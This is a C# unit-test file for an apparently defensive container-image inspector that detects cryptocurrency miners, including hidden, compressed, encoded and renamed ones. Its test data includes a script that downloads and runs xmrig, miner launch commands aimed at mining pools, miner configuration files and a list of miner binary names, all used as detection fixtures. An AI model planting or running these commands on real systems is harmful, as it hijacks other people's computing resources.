using System.IO.Compression;
using System.Text;
using Davy.Images;
using Davy.Indicators;
using Davy.Inspection;
using Davy.Tests.Images;
using static Davy.Tests.Inspection.Inspecting;

namespace Davy.Tests.Inspection;

/// <summary>What is in an image decides, wherever it lies and whatever it is called. All "miners" here are synthetic.</summary>
public sealed class ImageInspectorTests
{
    static SomeImage App(params string[] entrypoint) => new SomeImage().Entrypoint(entrypoint.Length > 0 ? entrypoint : ["/app/server"]).Layer(new TarBuilder().Folder("usr/").Folder("usr/bin/").Link("bin", "usr/bin").File("usr/bin/sh", Program("shell")));

    static byte[] Zip(params (string Name, byte[] Content)[] members)
    {
        using MemoryStream stored = new();
        using (ZipArchive zip = new(stored, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in members)
            {
                using var member = zip.CreateEntry(name).Open();
                member.Write(content);
            }
        }

        return stored.ToArray();
    }

    [Fact]
    public Task AnHonestImageIsClean() => AssertAsync(ImageVerdict.Clean, App().Layer(new TarBuilder().File("app/server", Program("hello")).File("app/readme.txt", "A data miner for text.")));

    [Fact]
    public async Task AMinerThatTheImageStartsIsAMiner()
    {
        var report = await InspectAsync(App("/app/server").Layer(new TarBuilder().File("app/server", Program(MinerTexts))));

        Assert.Equal(ImageVerdict.Miner, report.Verdict);
        var evidence = report.Images[0].Evidence[0];
        Assert.Equal((EvidenceKind.Program, EvidenceRole.Runs, "/app/server", 1), (evidence.Kind, evidence.Role, evidence.Place, evidence.Layer?.Index));
        Assert.Equal(Digest.Compute(Program(MinerTexts)), evidence.File);
        Assert.Contains(evidence.Signs, sign => sign.Id == "stratum-scheme" && sign.Offset > 5000);
    }

    [Theory]
    [InlineData("/bin/renamed")]
    [InlineData("renamed")]
    [InlineData("/usr/bin/renamed")]
    [InlineData("/usr/bin/../bin/./renamed")]
    [InlineData("sh", "-c", "exec renamed")]
    [InlineData("tini", "--", "nice", "-n", "5", "/bin/renamed")]
    public Task APathIsFollowedThroughLinksAndWrappers(params string[] entrypoint) =>
        AssertAsync(ImageVerdict.Miner, App(entrypoint).Layer(new TarBuilder().File("usr/bin/real", Program(MinerTexts)).Link("usr/bin/renamed", "real")));

    [Fact]
    public Task AFileThroughALinkOfALowerLayerIsTheSame() => AssertAsync(ImageVerdict.Miner, App("/usr/bin/x").Layer(new TarBuilder().File("bin/x", Program(MinerTexts))));

    [Fact]
    public Task AHardLinkIsAnotherName() => AssertAsync(ImageVerdict.Miner, App("/a").Layer(new TarBuilder().File("b", Program(MinerTexts)).HardLink("a", "b")));

    [Fact]
    public Task WhatIsNotStartedIsContained() => AssertAsync(ImageVerdict.ContainsMiner, App().Layer(new TarBuilder().File("opt/x", Program(MinerTexts))));

    [Theory]
    [InlineData("opt/.wh.x")]
    [InlineData(".wh.opt")]
    [InlineData("opt/.wh..wh..opq")]
    [InlineData("opt/x")]
    public async Task WhatALaterLayerDeletesCountsAndIsToldSo(string entry)
    {
        var report = await InspectAsync(App("/opt/x").Layer(new TarBuilder().File("opt/x", Program(MinerTexts))).Layer(new TarBuilder().File(entry, entry == "opt/x" ? "now harmless" : "")));

        Assert.Equal(ImageVerdict.ContainsMiner, report.Verdict);
        Assert.Equal(EvidenceRole.Deleted, report.Images[0].Evidence[0].Role);
        Assert.Contains("Layer 2 deletes", report.Images[0].Evidence[0].Why, StringComparison.Ordinal);
    }

    public static TheoryData<string, byte[]> Hidden() => new()
    {
        { "in UTF-16", Program(MinerTexts, Encoding.Unicode) },
        { "across the border of two pieces", Program(MinerTexts, before: (128 << 10) - 70) },
        { "across another border", Program(MinerTexts, before: (256 << 10) - 90) },
        { "at the very end", [.. Program("x"), .. Encoding.ASCII.GetBytes(MinerTexts)] },
        { "in upper case", Program(MinerTexts.ToUpperInvariant()) },
        { "gzip", SomeImage.Gzip(Program(MinerTexts)) },
        { "zstd", SomeImage.Zstd(Program(MinerTexts)) },
        { "tar", new TarBuilder().File("a/b", Program(MinerTexts)).Build() },
        { "tar.gz", SomeImage.Gzip(new TarBuilder().File("a/b", Program(MinerTexts)).Build()) },
        { "zip", Zip(("a", [1]), ("b/c", Program(MinerTexts))) },
        { "zip in zip", Zip(("x.jar", Zip(("b/c", Program(MinerTexts))))) },
        { "gzip in zip", Zip(("x.gz", SomeImage.Gzip(Program(MinerTexts)))) },
    };

    [Theory]
    [MemberData(nameof(Hidden), DisableDiscoveryEnumeration = true)]
    public async Task AMinerIsFoundHowever(string how, byte[] file)
    {
        var report = await InspectAsync(App().Layer(new TarBuilder().File("opt/file", file), isZstd: how == "zstd"));

        Assert.True(report.Verdict is ImageVerdict.ContainsMiner, $"{how}: {report.Verdict} {Told(report)}");
    }

    [Fact]
    public async Task WhatLiesTooDeepIsNotCalledClean()
    {
        var file = SomeImage.Gzip(SomeImage.Gzip(SomeImage.Gzip(SomeImage.Gzip([.. Filler(100_000)]))));

        await AssertAsync(ImageVerdict.NotVerified, App().Layer(new TarBuilder().File("opt/file", file)));
    }

    [Theory]
    [InlineData("config.json", """{"autosave":true,"donate-level":1,"pools":[{"url":"pool.example.com:443","user":"WALLET","pass":"x"}]}""")]
    [InlineData("v.txt", "// note\n{\"cpu\":{},\"pools\":[{\"url\":\"192.0.2.7:443\",\"user\":\"WALLET\",\"rig-id\":\"a\"}],}")]
    [InlineData("pools.txt", "\"pool_list\" : [ {\"pool_address\" : \"pool.example.com:3333\", \"wallet_address\" : \"WALLET\", \"rig_id\" : \"\"} ],\n\"currency\" : \"monero\",")]
    [InlineData("c.json", """{"algo":"cryptonight","url":"stratum+tcp://pool.example.com:3333","user":"WALLET","pass":"x"}""")]
    [InlineData("nano.ini", "[RandomX]\nwallet = WALLET\nrigName = a\npool1 = pool.example.com:1\ncoin = XMR\n")]
    public async Task AConfigurationIsKnownByItsStructure(string name, string text)
    {
        var report = await InspectAsync(App().Layer(new TarBuilder().File($"etc/{name}", text.Replace("WALLET", Wallet, StringComparison.Ordinal), 0x1A4)));

        Assert.True(report.Verdict is ImageVerdict.ContainsMiner, Told(report));
        Assert.Equal(EvidenceKind.Configuration, report.Images[0].Evidence[0].Kind);
    }

    [Theory]
    [InlineData("#!/bin/sh\nset -e\nexec ./worker -o pool.supportxmr.com:443 -u x --donate-level 1\n")]
    [InlineData("#!/bin/bash\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz\n./app\n")]
    public async Task AScriptThatTheImageStartsIsRead(string script)
    {
        var report = await InspectAsync(App("/run.sh").Layer(new TarBuilder().File("run.sh", script)));

        Assert.True(report.Verdict is ImageVerdict.Miner, Told(report));
        Assert.Contains(report.Images[0].Evidence[0].Signs, sign => sign.Line >= 2);
    }

    [Fact]
    public Task AScriptOfAScriptIsRead() =>
        AssertAsync(ImageVerdict.Miner, App("/run.sh").Layer(new TarBuilder().File("run.sh", "#!/bin/sh\nbash /opt/inner.sh\n").File("opt/inner.sh", "#!/bin/sh\nminerd -o stratum+tcp://pool.example.com:3333\n")));

    [Fact]
    public Task AScriptThatNothingStartsIsSuspicious() =>
        AssertAsync(ImageVerdict.Suspicious, App().Layer(new TarBuilder().File("opt/old.sh", "#!/bin/sh\nminerd -o stratum+tcp://pool.example.com:3333\n")));

    [Theory]
    [InlineData(false, false)]
    [InlineData(true, false)]
    [InlineData(true, true)]
    public async Task WhatIsWrappedInAScriptIsUnwrapped(bool isCompressed, bool isReversed)
    {
        var inner = Encoding.UTF8.GetBytes("#!/bin/sh\n# padding so that it is no short text at all ............................\nminerd -o stratum+tcp://pool.example.com:3333 -u x\n");
        var wrapped = Convert.ToBase64String(isCompressed ? SomeImage.Gzip(inner) : inner);
        if (isReversed) wrapped = string.Concat(wrapped.Reverse());

        await AssertAsync(ImageVerdict.Miner, App("python3", "/d.py").Layer(new TarBuilder().File("d.py", $"import base64\nx = '{wrapped}'\n")));
    }

    [Fact]
    public Task APackedProgramThatIsStartedIsSuspiciousAndNoMore() => AssertAsync(ImageVerdict.Suspicious, App("/cloud").Layer(new TarBuilder().File("cloud", Packed())));

    [Fact]
    public Task APackedProgramThatIsNotStartedSaysNothing() => AssertAsync(ImageVerdict.Clean, App().Layer(new TarBuilder().File("cloud", Packed())));

    [Fact]
    public Task AnEncryptedProgramThatIsStartedIsSuspicious() =>
        AssertAsync(ImageVerdict.Suspicious, App("/x").Layer(new TarBuilder().File("x", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, .. new byte[57], .. Filler(60_000)])));

    static byte[] Packed() => [.. Program("x")[..200], .. "UPX!"u8, .. Filler(2000)];

    [Theory]
    [InlineData("etc/rules.yml", "- list: miner_binaries\n  items: [xmrig, minerd, cpuminer, ccminer, ethminer, nbminer, claymore, kinsing, gminer]\n- stratum+tcp://\n")]
    [InlineData("doc/readme.md", "Do not run xmrig --donate-level 1 -o stratum+tcp://pool.example.com:3333\n")]
    public Task WhatOnlySpeaksOfMinersMentionsThem(string path, string text) => AssertAsync(ImageVerdict.MentionsMiners, App().Layer(new TarBuilder().File(path, text, 0x1A4)));

    [Fact]
    public Task AProgramThatLooksForMinersIsNone() =>
        AssertAsync(ImageVerdict.MentionsMiners, App().Layer(new TarBuilder().File("usr/bin/agent", Program($"{MinerTexts}\0minerd\0cpuminer\0ccminer\0ethminer\0nbminer\0claymore\0kinsing\0gminer"))));

    [Fact]
    public async Task AListedLayerCountsAndAListedBaseDoesNot()
    {
        var top = new TarBuilder().File("a", "a").Build();
        var below = new TarBuilder().File("b", "b").Build();
        var image = new SomeImage().Entrypoint("/a").Layer(below).Layer(top);

        await AssertAsync(ImageVerdict.ContainsMiner, image, Listing(Digest.Compute(top)));
        await AssertAsync(ImageVerdict.ContainsMiner, image, Listing(Digest.Compute(SomeImage.Gzip(top))));
        await AssertAsync(ImageVerdict.MentionsMiners, image, Listing(Digest.Compute(below)));
    }

    [Fact]
    public async Task AListedManifestConfigurationOrFileIsEnough()
    {
        var image = App("/app/server").Layer(new TarBuilder().File("app/server", Program("x")));
        var manifest = image.Manifest();

        await AssertAsync(ImageVerdict.Miner, image, Listing(Digest.Compute(manifest)));
        await AssertAsync(ImageVerdict.Miner, image, Listing(Digest.Compute(Encoding.UTF8.GetBytes(image.Config.ToJsonString()))));
        await AssertAsync(ImageVerdict.Miner, image, Listing(Digest.Compute(Program("x"))));
    }

    static InspectionSettings Listing(Digest digest) => new()
    {
        Indicators = new([IndicatorFile.Parse("ours.txt", Encoding.UTF8.GetBytes($"{digest}\n"))]),
    };

    [Fact]
    public async Task TheArchiveOfDockerSaysTheSame()
    {
        using TemporaryFolder folder = new();
        var image = App("/app/server").Layer(new TarBuilder().File("app/server", Program(MinerTexts)));

        foreach (var reference in new[] { image.WriteArchive(folder), image.WriteArchive(folder, isCompressed: true) })
        {
            var report = await InspectAsync(reference);
            Assert.True(report.Verdict is ImageVerdict.Miner, Told(report));
            Assert.NotNull(report.Images[0].Evidence[0].Layer!.Digest);
        }
    }

    [Fact]
    public async Task WhatTheConfigurationDecidesNeedsNoLayer()
    {
        var image = App("xmrig", "-o", "pool.supportxmr.com:443").Layer(new TarBuilder().File("app", "x"));

        Assert.All((await InspectAsync(image)).Images[0].Layers, layer => Assert.Equal(LayerState.NotNeeded, layer.State));
        Assert.All((await InspectAsync(image, new() { AllLayers = true })).Images[0].Layers, layer => Assert.Equal(LayerState.Searched, layer.State));
    }

    [Fact]
    public async Task AMinerInTheTopLayerEndsTheSearch()
    {
        var image = new SomeImage().Entrypoint("/m");
        for (var i = 0; i < 6; i++) image.Layer(new TarBuilder().File($"f{i}", "x"));
        image.Layer(new TarBuilder().File("m", Program(MinerTexts)));

        var layers = (await InspectAsync(image)).Images[0].Layers;
        Assert.Equal(LayerState.Searched, layers[^1].State);
        Assert.Equal(LayerState.NotNeeded, layers[0].State);
    }
}
